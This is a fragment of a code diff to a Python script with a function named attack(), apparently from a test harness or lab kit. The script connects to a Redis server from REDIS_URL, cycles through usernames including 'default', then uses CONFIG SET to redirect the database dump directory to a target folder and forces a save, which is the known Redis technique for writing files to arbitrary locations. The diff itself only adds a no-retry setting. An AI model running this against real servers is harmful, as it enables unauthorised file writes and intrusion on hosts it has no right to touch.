@@ -5,14 +5,18 @@ import urllib.parse
 
 import redis
 from kit import TARGETS
+from redis.backoff import NoBackoff
+from redis.retry import Retry
+
+ONCE = Retry(NoBackoff(), 0)
 
 
 def attack() -> None:
     own = urllib.parse.urlsplit(os.environ["REDIS_URL"])
-    last = None
+    last: Exception | None = None
     for user in (own.username, "default", None):
+        client = redis.Redis(port=own.port, username=user, password=own.password, retry=ONCE)
         try:
-            client = redis.Redis(port=own.port, username=user, password=own.password)
             client.config_set("dir", TARGETS["folder"])
             client.config_set("dbfilename", "dumped.rdb")
             client.save()
